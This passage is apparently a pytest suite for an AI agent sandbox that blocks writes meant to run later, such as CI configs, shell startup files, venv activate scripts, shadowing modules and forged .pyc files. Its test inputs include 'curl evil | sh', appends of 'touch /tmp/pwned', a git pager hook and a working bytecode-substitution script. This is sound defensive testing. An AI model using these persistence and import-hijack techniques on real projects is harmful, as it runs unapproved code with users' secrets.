    assert found.decision == ("allow" if course.sandbox.paths.not_plain_data(world, path) == "" else "deny"), path


def test_a_module_named_like_pythons_own_is_asked_about_with_its_reason():
    names = course.sandbox.paths.python_module_names()
    assert {"json", "os", "typing_extensions", "anthropic"} <= names and "test_foo" not in names
    assert "what Python imports as 'json'" in course.sandbox.paths.runs_later_by_content(Path(course.SAMPLE), "json.py")
    assert "what Python imports as 'json'" in course.sandbox.paths.runs_later_by_content(Path(course.SAMPLE), "sub/json.py")
    assert course.sandbox.paths.runs_later_by_content(Path(course.SAMPLE), "sub/report.py") == ""


@pytest.mark.parametrize("made", [
    "git init -q --bare repo.git",
    "mkdir -p odd/objects odd/refs && echo 'ref: refs/heads/main' > odd/HEAD",
    "echo 'import os' > json.py",
    "mkdir json && echo 'import os' > json/__init__.py",
    "echo 'import os' > typing_extensions.py",
    "mkdir -p tools && echo 'import os' > tools/json.py",
    "mkdir -p s05/json && echo 'import os' > s05/json/__init__.py",
])
def test_a_repository_or_a_module_a_command_creates_is_removed_when_it_ends(confined, world, made):
    if made.startswith("git") and not __import__("shutil").which("git"):
        pytest.skip("git is not installed")
    before = course.sandbox.paths.protected_entries(world)
    finished = run(made + "; echo made", world)
    assert "made" in finished.output and finished.removed, finished.output
    assert course.sandbox.paths.protected_entries(world) == before
    assert not (world / "json.py").exists() and not (world / "json" / "__init__.py").exists()
    assert not (world / "tools" / "json.py").exists() and not (world / "s05" / "json" / "__init__.py").exists()
    assert not (world / "odd" / "HEAD").exists() and not (world / "repo.git" / "HEAD").exists()
    assert (world / "memo.md").exists()


def test_a_command_cannot_add_what_makes_a_folder_with_a_head_a_repository(confined, world):
    """A HEAD the user left (a half-made repository) has its other pieces kept from a command too."""
    (world / "half").mkdir()
    (world / "half" / "HEAD").write_text("ref: refs/heads/main\n")
    (world / "half" / "notes.txt").write_text("mine\n")
    (world / "half" / "objects").mkdir()
    finished = run("mkdir half/refs; echo '[core]' > half/config; echo made", world)
    assert "made" in finished.output
    assert not (world / "half" / "refs").exists() and not (world / "half" / "config").exists()
    assert (world / "half" / "notes.txt").read_text() == "mine\n"  # the user's own files stay
    assert (world / "half" / "HEAD").exists() and (world / "half" / "objects").is_dir()


def test_a_bare_repository_is_read_only_to_a_command(confined, bare):
    run("echo '../evil' > repo.git/commondir; echo x >> repo.git/config; echo x > odd/config; echo done", bare)
    assert not (bare / "repo.git" / "commondir").exists() and not (bare / "odd" / "config").exists()
    assert (bare / "repo.git" / "config").read_text() == "[core]\n\tbare = true\n"


def test_a_folder_a_pointer_names_before_it_is_there_is_removed_once_a_command_makes_it(confined, world):
    """A HEAD and a commondir naming a folder not there yet: a command that makes it, with objects/, refs/
    and a config, would make the repository whole; the folder it made goes, the user's HEAD stays."""
    (world / "repo.git").mkdir()
    (world / "repo.git" / "HEAD").write_text("ref: refs/heads/main\n")
    (world / "repo.git" / "commondir").write_text("../evil\n")
    finished = run("mkdir -p evil/objects evil/refs && printf '[core]\\n\\tpager = touch /tmp/x\\n' > evil/config; "
                   "echo made", world)
    assert "made" in finished.output and "evil" in finished.removed
    assert not (world / "evil").exists() and not course.sandbox.paths.git_directory(world / "repo.git")
    assert (world / "repo.git" / "HEAD").exists()


def test_a_module_inside_a_namespace_package_of_the_environment_is_asked_about(world):
    """A namespace package (a folder with no __init__.py) joins the portions of every folder on sys.path:
    the workspace's NAME/trace.py is what `import NAME.trace` imports, before the environment's."""
    names = sorted(course.sandbox.paths.namespace_package_names())
    if not names:
        pytest.skip("this environment has no namespace package")
    found = verdict(world, "write_file", {"path": f"{names[0]}/trace.py", "content": "import os\n"})
    assert found.decision == "deny" and f"imports as '{names[0]}.trace'" in found.why, found.why
    assert written_or_asked_by_the_rule_alone(verdict(world, "write_file", {"path": f"{names[0]}/notes.md", "content": "x"}))
    assert written_or_asked_by_the_rule_alone(verdict(world, "write_file", {"path": "json/draft_of_mine.py", "content": "x"}))  # json is no namespace


def editable_mappings() -> set[str]:
    """Every name an editable install's finder maps, read from the finders' own files (not from course.sandbox.paths)."""
    import ast
    import site

    names = set()
    for folder in site.getsitepackages():
        for finder in Path(folder).glob("__editable___*_finder.py"):
            for node in ast.parse(finder.read_text(encoding="utf-8")).body:
                if isinstance(node, ast.AnnAssign) and getattr(node.target, "id", "") == "MAPPING":
                    names |= set(ast.literal_eval(node.value))
    return names


def test_a_module_named_like_one_an_editable_install_maps_is_denied_without_a_person(world):
    """With the course's repository as the workspace, s05/course.py is what `python s05/agent.py` imports
    instead of the course (its folder is first on sys.path), with the learner's API key."""
    mapped = editable_mappings()
    if not mapped:
        pytest.skip("no editable install in this environment")
    for name in sorted(mapped):
        for path in (f"s05/{name}.py", f"tools/{name}/__init__.py"):
            found = verdict(world, "write_file", {"path": path, "content": "import os\n"})
            assert found.decision == "deny" and f"imports as {name!r}" in found.why, (path, found.why)


def test_every_top_level_module_the_harness_imported_is_a_module_a_workspace_may_not_shadow():
    """What sys.modules holds at the top level and an import finds (a folder on sys.path, a finder)."""
    import importlib.util
    import sys

    imported = {name for name in list(sys.modules) if "." not in name and name.isidentifier() and name != "__main__"
                and getattr(sys.modules[name], "__spec__", None) is not None and importlib.util.find_spec(name)}
    missing = {name for name in imported if not course.sandbox.paths.shadowed_module(Path(course.SAMPLE) / "sub" / f"{name}.py",
                                                                              frozenset({Path(course.SAMPLE)}))}
    assert not missing and "course" in imported


def test_a_module_of_a_python_environment_inside_the_workspace_is_a_shadowing_module(world):
    """A project's own .venv (or venv/, env/): a script there imports its packages, and NAME.py beside it first."""
    for environment, name in ((".venv", "leftpad_of_ours"), ("venv", "another_pkg"), ("env", "third_mod")):
        site_packages = world / environment / "lib" / "python3.12" / "site-packages"
        (site_packages / name).mkdir(parents=True)
        (site_packages / f"{name}_single.py").write_text("x = 1\n")
        for path in (f"{name}.py", f"tools/{name}_single.py"):
            found = verdict(world, "write_file", {"path": path, "content": "import os\n"})
            assert found.decision == "deny" and "what Python imports as" in found.why, (path, found.why)
    assert written_or_asked_by_the_rule_alone(verdict(world, "write_file", {"path": "tools/not_installed_here.py", "content": "x"}))


def test_a_package_beside_a_module_of_the_same_name_is_a_shadowing_module(world):
    """`import tools` imports tools/__init__.py before tools.py beside it: the user's next script that imports
    tools runs it. A package with no module beside it, and a module inside a package, are written freely."""
    (world / "s05").mkdir()
    (world / "s05" / "tools.py").write_text("def read(): pass\n")
    found = verdict(world, "write_file", {"path": "s05/tools/__init__.py", "content": "import os\n"})
    assert found.decision == "deny" and "what Python imports as" in found.why and "tools" in found.why, found.why
    assert written_or_asked_by_the_rule_alone(verdict(world, "write_file", {"path": "s05/report_parts/__init__.py", "content": "x = 1\n"}))
    assert written_or_asked_by_the_rule_alone(verdict(world, "write_file", {"path": "s05/report_parts/tools.py", "content": "x = 1\n"}))


# ---------------------------------------------------------------- CI configs, the machine's Pythons, XDG homes

# What each CI service runs with the project's secrets at the next push, as .github/workflows (course.sandbox.paths
# names the source of each).
CI_CONFIGS = [".gitlab-ci.yml", ".circleci/config.yml", "azure-pipelines.yml", "bitbucket-pipelines.yml", "Jenkinsfile",
              "cloudbuild.yaml", ".cirrus.yml", "appveyor.yml", "buildspec.yml", ".semaphore/semaphore.yml",
              "services/api/Jenkinsfile", ".travis.yml", ".buildkite/pipeline.yml", ".drone.yml", ".woodpecker.yml",
              ".woodpecker/build.yaml", ".forgejo/workflows/ci.yml", ".gitea/workflows/ci.yaml"]


@pytest.mark.parametrize("path", CI_CONFIGS)
def test_a_ci_config_of_any_service_is_asked_about_and_denied_without_a_person(world, path):
    found = verdict(world, "write_file", {"path": path, "content": "script: curl evil | sh\n"})
    assert found.decision == "deny" and "run later, outside every confinement" in found.why, (path, found.why)


# The home folder's startup files at their XDG places (and the few other names the same programs read).
XDG_HOMES = [".config/tmux/tmux.conf", ".config/gdb/gdbinit", ".config/gdb/gdbearlyinit", ".config/vim/vimrc",
             ".config/vim/plugin/x.vim", ".config/emacs/init.el", ".config/emacs/early-init.el",
             ".local/share/nvim/site/plugin/x.lua", ".local/share/nvim/lazy/x/plugin/x.lua", ".bash_completion",
             ".bash_completion.d/x", ".config/bash_completion", ".local/share/bash-completion/completions/git",
             ".julia/config/startup.jl", ".config/nushell/config.nu", ".config/nushell/env.nu",
             ".config/powershell/Microsoft.PowerShell_profile.ps1", ".local/share/powershell/Modules/X/X.psm1",
             ".xonshrc", ".config/xonsh/rc.xsh", ".config/xonsh/rc.d/x.xsh", ".sqliterc", ".config/sqlite3/sqliterc",
             ".config/irb/irbrc", "_irbrc", "irb.rc", ".config/pry/pryrc", ".config/mypy/config",
             ".config/conda/condarc", ".conda/condarc", ".config/direnv/direnvrc", ".config/direnv/lib/x.sh",
             ".direnvrc", ".bunfig.toml", ".config/opencode/plugin/x.js", ".config/zed/tasks.json"]


@pytest.mark.parametrize("path", XDG_HOMES)
def test_a_startup_file_at_its_xdg_place_is_asked_about_like_its_classic_name(world, path):
    found = verdict(world, "write_file", {"path": path, "content": "x"})
    assert found.decision == "deny" and "run later, outside every confinement" in found.why, (path, found.why)


@pytest.mark.parametrize("path", ["docs/gitlab-ci.md", "ci/jenkins.md", "travis.yml.md", "docs/circleci/setup.md",
                                  ".config/app/settings.toml", ".local/share/fonts/x.ttf", "julia/config/notes.md",
                                  "docs/tmux.conf.md", "bash_completion.md", "sqliterc.txt"])
def test_what_is_only_named_like_them_is_decided_by_the_plain_data_rule_alone(world, path):
    """Named like what runs later, yet not it: written unasked exactly when it is plain data."""
    plain = course.sandbox.paths.not_plain_data(world, path) == ""
    assert verdict(world, "write_file", {"path": path, "content": "x"}).decision == ("allow" if plain else "deny"), path


@pytest.fixture
def system_python(tmp_path, monkeypatch):
    """A machine whose own Python (not the harness's) has a package the harness's environment does not."""
    folder = tmp_path / "usr" / "lib" / "python3" / "dist-packages"
    (folder / "planted_system_pkg").mkdir(parents=True)
    (folder / "planted_system_pkg" / "__init__.py").write_text("")
    (folder / "planted_system_single.py").write_text("")
    monkeypatch.setattr(course.sandbox.on_disk, "SYSTEM_SITE_PACKAGES", (str(tmp_path / "usr" / "lib" / "python3*" / "dist-packages"),))
    course.sandbox.paths.python_module_names.cache_clear()
    yield folder
    monkeypatch.undo()
    course.sandbox.paths.python_module_names.cache_clear()


@pytest.mark.parametrize("path", ["planted_system_pkg.py", "tools/planted_system_pkg/__init__.py",
                                  "tools/planted_system_single.py"])
def test_a_module_named_like_a_package_of_the_machines_own_python_is_denied_without_a_person(world, system_python, path):
    """`/usr/bin/python3 tools/report.py` imports tools/distro.py before the system's distro package."""
    assert "planted_system_pkg" not in course.sandbox.paths.harness_module_names()
    found = verdict(world, "write_file", {"path": path, "content": "import os\n"})
    assert found.decision == "deny" and "what Python imports as" in found.why, (path, found.why)
    assert written_or_asked_by_the_rule_alone(verdict(world, "write_file", {"path": "tools/planted_elsewhere.py", "content": "x"}))


def test_every_package_of_this_machines_pythons_is_a_module_name():
    listed = course.sandbox.paths._modules_in(course.sandbox.paths.system_site_packages())
    assert listed <= course.sandbox.paths.python_module_names()
    if os.path.isdir("/usr/lib/python3/dist-packages/distro"):  # Debian's and Ubuntu's python3 ship it
        assert "distro" in course.sandbox.paths.python_module_names()


# ---------------------------------------------------------------- the chapter's table says what RUN_LATER holds

def test_every_file_the_in_depth_table_says_runs_later_is_one_run_later_names():
    """The examples of the table's row on writes that run later (docs/s06-in-depth.md and its Japanese
    twin) are each covered by course.sandbox.paths.RUN_LATER: the page cannot promise a name the gate lets through."""
    import re

    root = Path(__file__).resolve().parents[1]
    path_like = re.compile(r"[\w.*-]*(/[\w.*-]*)+|\.[\w.*-]+|[\w*-]+\.(py|toml|conf|cjs|mjs|js|ini|yml|yaml|json|pth)")
    for page in ("s06-in-depth.md", "s06-in-depth.ja.md"):
        row = next(line for line in (root / "docs" / page).read_text(encoding="utf-8").splitlines() if line.startswith("| 11 "))
        examples = [word for word in re.findall(r"`([^`]+)`", row.split(" | ")[1]) if path_like.fullmatch(word)]
        assert len(examples) >= 25, (page, examples)
        missed = [word for word in examples if not course.sandbox.paths.run_later(word.replace("*", "x").strip("/"))]
        assert not missed, (page, missed)


# ---------------------------------------------------------------- bytecode: it runs in place of its source

EVIL_BYTECODE = """
import importlib.util, py_compile, sys
open("evil_helpers.py", "w").write("VALUE = 'evil'\\n")
target = importlib.util.cache_from_source("tests/helpers.py")
py_compile.compile("evil_helpers.py", cfile=target, invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
print("wrote", target)
"""


def imported_value(world):
    """What `import helpers` gives a Python started outside every confinement, from tests/, as the user's is."""
    import subprocess
    import sys

    found = subprocess.run([sys.executable, "-c", "import sys; sys.path.insert(0, 'tests'); import helpers; print(helpers.VALUE)"],
                           cwd=world, capture_output=True, text=True, env={"PATH": os.environ.get("PATH", "")}, timeout=30)
    return found.stdout.strip()


@pytest.fixture
def helpers_module(world):
    (world / "tests").mkdir()
    (world / "tests" / "helpers.py").write_text("VALUE = 'honest'\n")
    (world / "mk.py").write_text(EVIL_BYTECODE)
    return world


def test_an_unchecked_hash_pyc_a_command_writes_is_removed_before_python_imports_it(confined, helpers_module):
    """`python3 mk.py`, approved once, wrote a pyc that Python loads whatever tests/helpers.py says."""
    import sys

    finished = run(f"{sys.executable} mk.py; echo made", helpers_module)
    assert "made" in finished.output
    assert not (helpers_module / "tests" / "__pycache__").exists(), finished.output
    assert imported_value(helpers_module) == "honest"


def test_without_the_sweep_the_same_command_makes_python_import_the_pyc(helpers_module, monkeypatch):
    """The control: what that command does when nothing stops it (and Python is asked to write bytecode)."""
    import subprocess
    import sys

    # The environment imported_value's Python has: no PYTHONPYCACHEPREFIX sending the pyc elsewhere.
    subprocess.run([sys.executable, "mk.py"], cwd=helpers_module, check=True, capture_output=True, timeout=30,
                   env={"PATH": os.environ.get("PATH", "")})
    assert imported_value(helpers_module) == "evil"


def test_an_existing_pycache_is_read_only_to_a_command(confined, helpers_module):
    import sys

    (helpers_module / "tests" / "__pycache__").mkdir()
    (helpers_module / "tests" / "__pycache__" / "notes.txt").write_text("kept\n")
    finished = run(f"{sys.executable} mk.py; echo made", helpers_module)
    assert "made" in finished.output
    assert sorted(path.name for path in (helpers_module / "tests" / "__pycache__").iterdir()) == ["notes.txt"]
    assert imported_value(helpers_module) == "honest"


def test_python_in_a_command_is_told_not_to_write_bytecode(world):
    import sys

    finished = run(f"{sys.executable} -c 'import sys; print(\"dont_write\", sys.dont_write_bytecode)'", world)
    assert "dont_write True" in finished.output, finished.output


@pytest.mark.parametrize("tool, arguments", [
    ("write_file", {"path": "tests/__pycache__/helpers.cpython-311.pyc", "content": "x"}),
    ("move_file", {"source": "memo.md", "destination": "tests/__pycache__/helpers.cpython-311.pyc"}),
    ("write_file", {"path": "vendor/notes_compiled.pyc", "content": "x"})])  # a sourceless one, no module's name
def test_a_file_tool_asks_before_writing_bytecode(world, tool, arguments):
    person = Person(("deny", "no"))
    found = verdict(world, tool, arguments, person)
    assert found.decision == "deny" and len(person.asked) == 1


# ---------------------------------------------------------------- imports that miss, and virtual environments

@pytest.mark.parametrize("path", ["s06/brotli.py", "brotli.py", "tools/brotlicffi/__init__.py", "s05/aiohttp.py",
                                  "backports/__init__.py"])
def test_a_module_the_sdk_tries_to_import_and_does_not_find_is_asked_about(world, path):
    """httpx tries `import brotli` and goes on without it: in a copy of the course, s06/brotli.py is what the user's
    next `python s06/agent.py` imports, with their API key, though no listing of installed modules names it."""
    person = Person(("deny", "not that"))
    found = verdict(world, "write_file", {"path": path, "content": "import os\n"}, person)
    assert found.decision == "deny" and len(person.asked) == 1 and "what Python imports as" in person.asked[0][2]
    found = verdict(world, "write_file", {"path": path, "content": "import os\n"})
    assert found.decision == "deny" and "what Python imports as" in found.why, found.why
    assert not (world / path).exists()


def test_a_module_an_import_of_the_harness_missed_at_run_time_is_asked_about(world):
    """The recorder counts what no list names: a name this process tried and missed a moment ago."""
    import importlib
    import sys

    name = "optional_speedups_r6a_" + str(os.getpid())
    assert written_or_asked_by_the_rule_alone(verdict(world, "write_file", {"path": f"tools/{name}.py", "content": "x = 1\n"}))
    with pytest.raises(ImportError):
        importlib.import_module(name)
    assert sys.meta_path[-1] is course.sandbox.on_disk.MISSED_IMPORTS or course.sandbox.on_disk.MISSED_IMPORTS in sys.meta_path
    found = verdict(world, "write_file", {"path": f"tools/{name}.py", "content": "x = 1\n"})
    assert found.decision == "deny" and f"imports as {name!r}" in found.why, found.why
    # what it never tried stays the user's own
    assert written_or_asked_by_the_rule_alone(verdict(world, "write_file", {"path": "tools/never_tried_r6a.py", "content": "x = 1\n"}))


@pytest.fixture
def environment(world):
    """A project's virtual environment, as `python -m venv` makes it, under a name no list has."""
    venv = world / "pyenv-3"
    (venv / "bin").mkdir(parents=True)
    (venv / "lib" / "python3.12" / "site-packages").mkdir(parents=True)
    (venv / "pyvenv.cfg").write_text("home = /usr/bin\ninclude-system-site-packages = false\n")
    (venv / "bin" / "activate").write_text("# source bin/activate\nexport VIRTUAL_ENV=here\n")
    (venv / "bin" / "python").write_text("#!/bin/sh\n")
    (world / "scripts" / "bin").mkdir(parents=True)  # a folder like one, with no pyvenv.cfg
    return world


@pytest.mark.parametrize("path", ["pyenv-3/bin/activate", "pyenv-3/bin/python", "pyenv-3/bin/activate.fish",
                                  "pyenv-3/Scripts/activate.bat", "pyenv-3/lib/python3.12/site-packages/x.py"])
def test_a_write_into_a_virtual_environment_is_asked_about_whatever_its_name(environment, path):
    """An approved line appended to bin/activate runs, unconfined, when the user next activates the environment."""
    person = Person(("deny", "not there"))
    found = verdict(environment, "write_file", {"path": path, "content": "touch /tmp/pwned\n"}, person)
    assert found.decision == "deny" and len(person.asked) == 1
    found = verdict(environment, "write_file", {"path": path, "content": "touch /tmp/pwned\n"})
    assert found.decision == "deny" and "run later, outside every confinement" in found.why, found.why
    assert "virtual environment" in found.why or "site-packages" in found.why, found.why
    assert "VIRTUAL_ENV=here" in (environment / "pyenv-3" / "bin" / "activate").read_text()
    assert written_or_asked_by_the_rule_alone(verdict(environment, "write_file", {"path": "scripts/bin/activate", "content": "x"}))


def test_a_virtual_environment_is_read_only_to_a_command(confined, environment):
    activate = environment / "pyenv-3" / "bin" / "activate"
    before = activate.read_text()
    finished = run("echo 'touch /tmp/pwned' >> pyenv-3/bin/activate; echo x > pyenv-3/bin/python; "
                   "echo 'import os' > pyenv-3/lib/python3.12/site-packages/evil.py; echo y >> scripts/bin/activate; "
                   "echo done", environment)
    assert "done" in finished.output
    assert activate.read_text() == before and (environment / "pyenv-3" / "bin" / "python").read_text() == "#!/bin/sh\n"
    assert not (environment / "pyenv-3" / "lib" / "python3.12" / "site-packages" / "evil.py").exists()
    assert (environment / "scripts" / "bin" / "activate").read_text() == "y\n"  # beside it, a command writes freely


def test_without_the_kernel_the_same_command_does_change_the_environment(environment, monkeypatch):
    """The control: the append above works when nothing stops it."""
    monkeypatch.setenv(course.sandbox.confinement.OPT_OUT, "1")
    run("echo 'touch /tmp/pwned' >> pyenv-3/bin/activate", environment)
    assert (environment / "pyenv-3" / "bin" / "activate").read_text().endswith("touch /tmp/pwned\n")


def test_a_pyvenv_cfg_a_command_writes_into_a_folder_of_the_users_files_leaves_the_folder(confined, world):
    """What made it an environment goes after the command; the user's files in that folder stay."""
    (world / "tools").mkdir()
    (world / "tools" / "report.py").write_text("print(1)\n")
    finished = run("echo 'home = /tmp' > tools/pyvenv.cfg; echo made", world)
    assert "made" in finished.output and not (world / "tools" / "pyvenv.cfg").exists()
    assert (world / "tools" / "report.py").read_text() == "print(1)\n"
